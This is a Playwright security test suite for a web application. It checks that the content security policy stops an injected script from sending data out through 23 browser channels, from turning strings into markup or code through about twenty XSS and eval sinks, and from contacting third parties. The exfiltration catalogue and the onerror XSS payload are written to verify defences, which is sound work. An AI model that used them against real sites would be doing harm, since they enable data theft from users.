/**
 * What a script that got into the page could still do: send something out (G02), make code or markup
 * of words (G03), ask a third party (G04). The attacks run in the built application as it is served;
 * the same ones run on a page without a policy, so that silence here means that it was the policy.
 */

import type { Page } from '@playwright/test';
import { type Elsewhere, listenElsewhere } from './elsewhere.ts';
import { goWithin } from './going.ts';
import { test as base, expect } from './harness.ts';
import { inventedStory } from './stories/invented-story.ts';

/** Attacks break the policy on purpose, so nothing watches over them but the test itself. */
const attack = base.extend({
  watch: async ({ browserName: _ }, use) => use(undefined),
});

/** Each tries to reach the other address by one way; a way that throws has failed. */
async function tryEveryWay(page: Page, { address }: Elsewhere): Promise<readonly string[]> {
  return page.evaluate(async (to) => {
    const element = (tag: string, set: Record<string, string>, into = document.body) => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(set)) made.setAttribute(name, value);
      return into.appendChild(made);
    };
    const ways: Record<string, (url: string) => unknown> = {
      fetch: (url) => fetch(url, { mode: 'no-cors' }),
      request: (url) => {
        const asking = new XMLHttpRequest();
        asking.open('POST', url);
        asking.send('secret');
      },
      beacon: (url) => navigator.sendBeacon(url, 'secret'),
      events: (url) => void new EventSource(url),
      socket: (url) => void new WebSocket(url.replace('http', 'ws')),
      image: (url) => element('img', { src: url }),
      svg: (url) => {
        const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
        image.setAttribute('href', url);
        document.body
          .appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'))
          .append(image);
      },
      background: (url) => {
        document.body.style.backgroundImage = `url(${url})`;
      },
      sheet: (url) => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body { list-style-image: url(${url}); border-image: url(${url}) 1 }`);
        document.adoptedStyleSheets.push(sheet);
      },
      font: (url) => new FontFace('other', `url(${url})`).load(),
      style: (url) => element('link', { rel: 'stylesheet', href: url }, document.head),
      prefetch: (url) => element('link', { rel: 'prefetch', href: url }, document.head),
      preload: (url) => element('link', { rel: 'preload', as: 'image', href: url }, document.head),
      script: (url) => element('script', { src: url }),
      module: (url) => import(url),
      worker: (url) => element('link', { rel: 'modulepreload', href: url }, document.head),
      frame: (url) => element('iframe', { src: url }),
      object: (url) => element('object', { data: url }),
      embed: (url) => element('embed', { src: url }),
      video: (url) => element('video', { src: url, preload: 'auto' }),
      poster: (url) => element('video', { poster: url }),
      ping: (url) => element('a', { href: '#here', ping: url }).click(),
      form: (url) => {
        element('iframe', { name: 'hidden' });
        const form = element('form', { action: url, method: 'post', target: 'hidden' });
        (form as HTMLFormElement).submit();
      },
    };
    for (const [name, way] of Object.entries(ways)) {
      // A refusal is what is hoped for; what counts is what arrives.
      try {
        await Promise.race([way(`${to}/${name}/secret`), new Promise((r) => setTimeout(r, 500))]);
      } catch {}
    }
    return Object.keys(ways).sort();
  }, address);
}

attack(
  'G02: no request leaves the page for another address, by any of 23 ways',
  async ({ page, browser }) => {
    const [fromUs, fromControl] = [await listenElsewhere(), await listenElsewhere()];
    const control = await browser.newPage();
    try {
      await page.goto('/look-around');
      await page.locator('h1').waitFor();
      await tryEveryWay(page, fromUs);
      await control.goto(`${fromControl.address}/`);
      const ways = await tryEveryWay(control, fromControl);
      expect(ways).toHaveLength(23);
      await expect.poll(() => fromControl.arrived()).toEqual(ways);
      expect(fromUs.arrived()).toEqual([]);
    } finally {
      await control.close();
      await Promise.all([fromUs.stop(), fromControl.stop()]);
    }
  },
);

attack('G02: what no policy can stop is exactly what the list says', async ({ page, context }) => {
  const elsewhere = await listenElsewhere();
  try {
    await page.goto('/look-around');
    await page.locator('h1').waitFor();
    await page.evaluate(async (stun) => {
      const peers = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      peers.createDataChannel('out');
      await peers.setLocalDescription(await peers.createOffer());
    }, elsewhere.stun);
    await expect.poll(() => elsewhere.arrived()).toEqual(['udp']);
    const opened = context.waitForEvent('page');
    await page.evaluate((to) => void window.open(`${to}/window`), elsewhere.address);
    await (await opened).close();
    await page.evaluate((to) => location.assign(`${to}/navigation`), elsewhere.address);
    await expect.poll(() => elsewhere.arrived()).toEqual(['navigation', 'udp', 'window']);
  } finally {
    await elsewhere.stop();
  }
});

attack(
  'G03: no words become markup or code, and no rule of one’s own lets them',
  async ({ page }) => {
    await page.goto('/look-around');
    await page.locator('h1').waitFor();
    const letThrough = await page.evaluate(async () => {
      const markup = '<img src=x onerror="window.ran = 1">';
      const here = document.body.appendChild(document.createElement('div'));
      const script = document.createElement('script');
      const range = document.createRange();
      range.selectNode(here);
      const run = (name: string) => Reflect.get(globalThis, name) as (words: string) => unknown;
      const rules = Reflect.get(globalThis, 'trustedTypes');
      const sinks: Record<string, () => unknown> = {
        innerHTML: () => Reflect.set(here, 'innerHTML', markup),
        outerHTML: () => Reflect.set(here, 'outerHTML', markup),
        insertAdjacentHTML: () => here.insertAdjacentHTML('beforeend', markup),
        setHTMLUnsafe: () => here.setHTMLUnsafe(markup),
        shadow: () =>
          Reflect.set(
            document.createElement('p').attachShadow({ mode: 'open' }),
            'innerHTML',
            markup,
          ),
        write: () => Reflect.apply(Reflect.get(document, 'write'), document, [markup]),
        parse: () => new DOMParser().parseFromString(markup, 'text/html'),
        parseHTMLUnsafe: () => Document.parseHTMLUnsafe(markup),
        fragment: () => range.createContextualFragment(markup),
        srcdoc: () => Reflect.set(document.createElement('iframe'), 'srcdoc', markup),
        handler: () => here.setAttribute('onclick', 'window.ran = 1'),
        'script text': () => Reflect.set(script, 'text', 'window.ran = 1'),
        'script textContent': () => Reflect.set(script, 'textContent', 'window.ran = 1'),
        'script src': () => Reflect.set(script, 'src', '/assets/x.js'),
        worker: () => new Worker('/assets/x.js'),
        'service worker': () => navigator.serviceWorker.register('/assets/x.js'),
        eval: () => run('eval')('window.ran = 1'),
        Function: () => run('Function')('window.ran = 1'),
        setTimeout: () => run('setTimeout')('window.ran = 1'),
        'a rule of its own': () => rules.createPolicy('mine', {}),
        'our rule again': () => rules.createPolicy('alongside', {}),
        'a rule for all': () => rules.createPolicy('default', {}),
      };
      // The browser lets eval through while a debugger's call is on the stack: a task of its own has none.
      await new Promise((resolve) => setTimeout(resolve, 0));
      const passed: string[] = [];
      for (const [name, sink] of Object.entries(sinks)) {
        try {
          await sink();
          passed.push(name);
        } catch (error) {
          if (!(error instanceof TypeError || error instanceof EvalError))
            passed.push(`${name}: ${error}`);
        }
      }
      return passed;
    });
    expect(letThrough).toEqual([]);
    expect(await page.evaluate(() => Reflect.has(window, 'ran'))).toBe(false);
  },
);

const pages = [
  '/',
  '/asks',
  '/partners',
  '/stories',
  '/discussions',
  '/issues',
  '/notebook',
  '/more',
  '/settings',
  '/settings/about',
  '/if-something-happens',
];

base(
  'G04: a walk through the rooms asks nothing of any other address',
  async ({ page, context, address }) => {
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    await page.goto('/stories/import');
    await page.locator('textarea').fill(inventedStory);
    await page.locator('.page-text > button').click();
    await page.locator('.check-piece').first().waitFor();
    await page.goto('/look-around');
    await page.locator('h1').waitFor();
    for (const path of pages) {
      await goWithin(page, path);
    }
    const elsewhere = asked.filter((url) => !url.startsWith(address) && !/^(blob|data):/.test(url));
    expect(asked.length).toBeGreaterThan(20);
    expect(elsewhere).toEqual([]);
  },
);

base(
  'G04: the watch over every browser test fails when a page asks another address',
  async ({ page }) => {
    base.fail(true, 'the request is the point: the watch must object to it');
    await page.goto('/');
    await page.evaluate(() => fetch('http://127.0.0.1:9/').catch(() => undefined));
  },
);
